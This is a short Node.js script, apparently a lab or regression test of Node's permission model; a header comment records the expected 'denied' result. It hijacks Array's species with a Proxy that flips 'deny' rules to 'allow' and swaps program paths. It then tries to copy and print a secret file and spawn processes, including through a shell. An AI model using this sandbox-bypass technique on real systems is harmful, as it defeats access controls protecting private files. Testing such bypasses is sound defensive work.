// A copy of an array is an object of the program's, which gives other values when Node reads it.
// denied: file:read secret.txt
const lab = JSON.parse(process.argv[2]);
const fs = require('node:fs');
const { spawnSync } = require('node:child_process');
const { tool, marker } = lab.programs;
let shift = 0;
const evil = (value) => (typeof value === 'string' && value.endsWith('/marker') && shift++ % 2 === 0 ? tool : value?.kind === 'deny' ? { ...value, kind: 'allow' } : value);
class Shifting {
  constructor() {
    return new Proxy([], { get: (target, key) => evil(target[key]), defineProperty: (target, key, descriptor) => Reflect.defineProperty(target, key, { ...descriptor, configurable: true, writable: true }) });
  }
}
Object.defineProperty(Array, Symbol.species, { configurable: true, get: () => Shifting });
Array.prototype.constructor = Object.assign(function () {}, { [Symbol.species]: Shifting });
for (let i = 0; i < 4; i++) {
  shift = i;
  for (const act of [() => fs.copyFileSync(lab.secret, `${lab.granted}/copy`), () => spawnSync(marker, ['a'], { stdio: 'ignore' }), () => spawnSync(marker, { shell: true, stdio: 'ignore' }), () => process._rawDebug(fs.readFileSync(lab.secret, 'latin1'))]) {
    try {
      act();
    } catch {
      // Refused.
    }
  }
}
